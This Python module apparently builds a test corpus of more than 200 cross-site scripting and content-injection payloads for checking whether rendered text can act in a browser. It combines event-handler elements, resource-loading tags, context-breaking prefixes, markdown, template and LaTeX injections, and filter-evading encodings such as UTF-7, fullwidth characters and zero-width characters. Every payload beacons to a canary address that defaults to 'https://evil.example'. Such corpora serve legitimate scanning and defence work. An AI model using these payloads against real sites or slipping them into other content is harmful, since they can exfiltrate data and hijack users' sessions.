"""Texts that try to act when a browser shows them: elements and handlers in templates, each in several encodings."""

from __future__ import annotations

import html
from collections.abc import Callable
from itertools import product
from urllib.parse import quote

CANARY = "CANARY"  # stands for the address of a server that counts its visitors

_HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin", "onpageshow")
_ELEMENTS = (
    "<img src=x {handler}={code}>",
    "<svg {handler}={code}>",
    "<svg><animate {handler}={code} attributeName=x dur=1s>",
    "<details open {handler}={code}><summary>x</summary></details>",
    "<input autofocus {handler}={code}>",
    "<video><source {handler}={code}></video>",
    "<body {handler}={code}>",
)
_CODE = f"\"new Image().src='{CANARY}/handler'\""
_LOADS = (
    f"<script src={CANARY}/s.js></script>",
    f"<script>fetch('{CANARY}/fetch')</script>",
    f"<img src={CANARY}/i.png>",
    f'<img srcset="{CANARY}/set.png 1x">',
    f"<iframe src={CANARY}/frame></iframe>",
    f"<iframe srcdoc=\"<img src='{CANARY}/srcdoc'>\"></iframe>",
    f"<object data={CANARY}/object></object>",
    f"<embed src={CANARY}/embed>",
    f"<link rel=stylesheet href={CANARY}/l.css>",
    f"<link rel=dns-prefetch href={CANARY}>",
    f"<style>@import '{CANARY}/i.css';</style>",
    f"<style>*{{background:url({CANARY}/bg)}}</style>",
    f'<p style="background:url({CANARY}/style)">x</p>',
    f'<meta http-equiv=refresh content="0;url={CANARY}/meta">',
    f"<base href={CANARY}/>",
    f"<form action={CANARY}/form><button autofocus>x</button></form>",
    f"<button formaction={CANARY}/button>x</button>",
    f"<audio src={CANARY}/a.mp3 autoplay></audio>",
    f"<video poster={CANARY}/poster></video>",
    f"<svg><image href={CANARY}/image /></svg>",
    f"<svg><use href={CANARY}/use#x /></svg>",
    f"<math><mi xlink:href={CANARY}/math>x</mi></math>",
    f"<table background={CANARY}/table><tr><td>x</table>",
    f"<a href={CANARY}/ping ping={CANARY}/ping>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    f"![x]({CANARY}/markdown.png)",
    f"![x][y]\n\n[y]: {CANARY}/reference.png",
    "[x](javascript:alert(1))",
    f"<{CANARY}/autolink>",
    f"${{fetch('{CANARY}/template')}}",
    f"{{{{constructor.constructor('fetch(`{CANARY}/vue`)')()}}}}",
    f"\\href{{{CANARY}/latex}}{{x}} $\\includegraphics{{{CANARY}/latex.png}}$",
)
_BREAKS = (
    '">',
    "'>",
    "--></p>",
    "</textarea></title></style></script>",
    "</mark></span></button>",
    "]]>",
    "`>",
    '"><!--',
)
ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    html.escape,
    lambda text: "".join(f"&#{ord(c)};" for c in text),
    lambda text: "".join(f"&#x{ord(c):x}" if c in "<>\"'=" else c for c in text),
    quote,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "<\x00").replace("=", "=\x0b"),
    lambda text: text.replace("<", "\u200b<\u202e").replace("o", "o\u00ad"),
    lambda text: "".join(chr(ord(c) + 0xFEE0) if c in "<>\"'=/" else c for c in text),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.swapcase(),
    lambda text: text.replace("<", "<\n").replace(" ", "/\t"),
)


def payloads(address: str = "https://evil.example") -> list[str]:
    """Return more than 200 different payloads that would call ``address``."""
    handlers = [element.format(handler=handler, code=_CODE) for element, handler in product(_ELEMENTS, _HANDLERS)]
    handlers, loads = ([text.replace(CANARY, address) for text in texts] for texts in (handlers, _LOADS))
    broken = [f"{escape}{load}" for escape, load in product(_BREAKS, (loads[1], loads[2], handlers[0]))]
    encoded = [encode(text) for encode, text in product(ENCODINGS, (*loads[:6], handlers[0], handlers[8]))]
    return list(dict.fromkeys([*handlers, *loads, *broken, *encoded]))
